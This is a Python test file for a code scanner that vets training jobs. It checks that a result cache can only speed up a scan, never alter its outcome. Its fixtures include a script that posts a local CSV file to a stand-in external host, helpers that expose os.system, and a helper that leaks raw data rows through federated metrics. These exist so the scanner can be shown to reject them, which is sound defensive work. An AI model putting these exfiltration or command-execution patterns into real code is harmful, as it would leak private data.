"""The content cache can make a scan faster, never its result different."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from conftest import ROOT, run_cli

from analyzer.engine.cache import KEY_FILE, ResultCache, key_of
from analyzer.model import Finding

F = Finding(rule="network.http-client", category="network", severity="critical", confidence="high", path="a.py",
            line=3, column=1, message="HTTP request with requests.post", kind="threat")


def test_an_entry_comes_back_as_it_went_in(tmp_path: Path) -> None:
    cache = ResultCache(tmp_path)
    cache.put(key_of("a"), [F])
    assert cache.get(key_of("a")) == [F]
    assert cache.get(key_of("b")) is None


def test_the_key_file_is_private(tmp_path: Path) -> None:
    ResultCache(tmp_path)
    assert (tmp_path / KEY_FILE).stat().st_mode & 0o777 == 0o600


def test_a_tampered_entry_is_ignored(tmp_path: Path) -> None:
    cache = ResultCache(tmp_path)
    key = key_of("a")
    cache.put(key, [F])
    entry = tmp_path / key[:2] / key
    entry.write_bytes(entry.read_bytes().replace(b"critical", b"info    "))
    assert cache.get(key) is None


def test_an_entry_moved_under_another_key_is_ignored(tmp_path: Path) -> None:
    cache = ResultCache(tmp_path)
    cache.put(key_of("clean"), [])
    clean, dirty = key_of("clean"), key_of("dirty")
    (tmp_path / dirty[:2]).mkdir(exist_ok=True)
    (tmp_path / dirty[:2] / dirty).write_bytes((tmp_path / clean[:2] / clean).read_bytes())
    assert cache.get(dirty) is None


def test_an_entry_from_another_cache_is_ignored(tmp_path: Path) -> None:
    ResultCache(tmp_path / "other").put(key_of("a"), [])
    mine = ResultCache(tmp_path / "mine")
    key = key_of("a")
    (tmp_path / "mine" / key[:2]).mkdir()
    (tmp_path / "mine" / key[:2] / key).write_bytes((tmp_path / "other" / key[:2] / key).read_bytes())
    assert mine.get(key) is None


def test_a_corrupt_entry_is_ignored(tmp_path: Path) -> None:
    cache = ResultCache(tmp_path)
    key = key_of("a")
    cache.put(key, [F])
    (tmp_path / key[:2] / key).write_bytes(b"\x00garbage")
    assert cache.get(key) is None


def test_a_key_readable_by_others_turns_the_cache_off(tmp_path: Path) -> None:
    ResultCache(tmp_path).put(key_of("a"), [F])
    os.chmod(tmp_path / KEY_FILE, 0o644)
    cache = ResultCache(tmp_path)
    assert not cache.usable and cache.get(key_of("a")) is None


def test_an_unwritable_folder_only_costs_time(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    cache = ResultCache(blocker / "cache")
    cache.put(key_of("a"), [F])
    assert cache.get(key_of("a")) is None


# ---- through the CLI, as CI re-runs use it -------------------------------------


def _scan(job: Path, *extra: str) -> dict:
    proc = run_cli("scan", "--format", "json", *extra, str(job))
    assert proc.stdout, proc.stderr
    return json.loads(proc.stdout)["reports"][0]


def _job(folder: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (folder / name).write_text(text)
    return folder


def test_a_warm_rescan_reports_exactly_what_a_cold_one_did(tmp_path: Path) -> None:
    (tmp_path / "job").mkdir()
    job = _job(tmp_path / "job", {"train.py": "import requests\nrequests.post('https://x.example', data=open('/data/a.csv').read())\n",
               "model.py": "import torch\nnet = torch.nn.Linear(2, 2)\n"})
    cache = tmp_path / "cache"
    cold = _scan(job, "--cache-dir", str(cache))
    assert any(cache.rglob("*")) and cold["decision"] == "reject"
    assert _scan(job, "--cache-dir", str(cache)) == cold


def test_a_changed_module_that_a_file_reaches_is_analysed_again(tmp_path: Path) -> None:
    (tmp_path / "job").mkdir()
    job = _job(tmp_path / "job", {"helpers.py": "import math\ndef runner():\n    return math.sqrt\n",
                                  "train.py": "from helpers import runner\nrunner()(4.0)\n"})
    cache = tmp_path / "cache"
    assert _scan(job, "--cache-dir", str(cache))["decision"] == "accept"
    (job / "helpers.py").write_text("import os\ndef runner():\n    return os.system\n")
    report = _scan(job, "--cache-dir", str(cache))  # train.py did not change; what it calls did
    assert report["decision"] == "reject"
    assert any(f["path"] == "train.py" and "os.system" in f["message"] for f in report["findings"])


def test_a_module_added_beside_an_unchanged_file_is_resolved_anew(tmp_path: Path) -> None:
    # train.py and helpers.py do not change, but a new package takes `helpers` from helpers.py
    (tmp_path / "job").mkdir()
    job = _job(tmp_path / "job", {
        "train.py": "import numpy as np\nimport nvflare.client as flare\nfrom helpers import summarize\n"
                    "flare.init()\ndata = np.load('/data/site/train.npy')\nwhile flare.is_running():\n"
                    "    model = flare.receive()\n"
                    "    flare.send(flare.FLModel(params=model.params, metrics={'n': summarize(data)}))\n",
        "helpers.py": "def summarize(rows):\n    return len(rows)\n"})
    cache = tmp_path / "cache"
    assert _scan(job, "--cache-dir", str(cache))["decision"] == "accept"
    (job / "helpers").mkdir()
    _job(job / "helpers", {"__init__.py": "def summarize(rows):\n    return rows\n"})
    warm = _scan(job, "--cache-dir", str(cache))
    assert warm == _scan(job, "--no-cache")
    assert warm["decision"] == "reject"


def test_no_cache_reads_and_writes_no_result(tmp_path: Path) -> None:
    (tmp_path / "job").mkdir()
    job = _job(tmp_path / "job", {"train.py": "print(1)\n"})
    cache = tmp_path / "cache"
    _scan(job, "--no-cache", "--cache-dir", str(cache))
    # only the key and the site's compiled configuration (analyzer/engine/compiled.py)
    assert {p.name for p in cache.iterdir()} == {KEY_FILE, "config"}


def test_an_unchanged_unit_is_answered_without_loading_the_analysis(tmp_path: Path) -> None:
    (tmp_path / "job").mkdir()
    job = _job(tmp_path / "job", {"helpers.py": "import os\ndef run(c):\n    os.system(c)\n",
                                  "train.py": "from helpers import run\nrun('ls')\n"})
    cache = tmp_path / "cache"
    cold = _scan(job, "--cache-dir", str(cache))
    # The analysis, libcst and the YAML reader may not even be importable: one entry answers.
    code = ("import sys\n"
            "for name in ('analyzer.engine.analysis', 'libcst', 'yaml', 'analyzer.engine.rules', 'analyzer.engine.catalogue'):\n"
            "    sys.modules[name] = None\n"
            "from analyzer.commands.cli import main\n"
            "main()\n")
    proc = subprocess.run([sys.executable, "-c", code, "scan", "--format", "json", "--cache-dir", str(cache), str(job)],
                          capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert proc.stdout, proc.stderr
    assert json.loads(proc.stdout)["reports"][0] == cold and cold["decision"] == "reject"


def test_the_engine_digest_covers_every_own_source_and_data_file_and_nothing_else(tmp_path: Path) -> None:
    from analyzer.engine.cache import _own_files

    for name in ("analyzer/a.py", "analyzer/engine/b.yaml", "analyzer/__pycache__/a.cpython-311.py",
                 "analyzer/notes.txt", "rules/lists/c.yaml", "rules/__pycache__/x.py", "other/d.py"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x")
    assert _own_files(tmp_path) == [("analyzer", "a.py"), ("analyzer", "engine", "b.yaml"),
                                    ("rules", "lists", "c.yaml")]
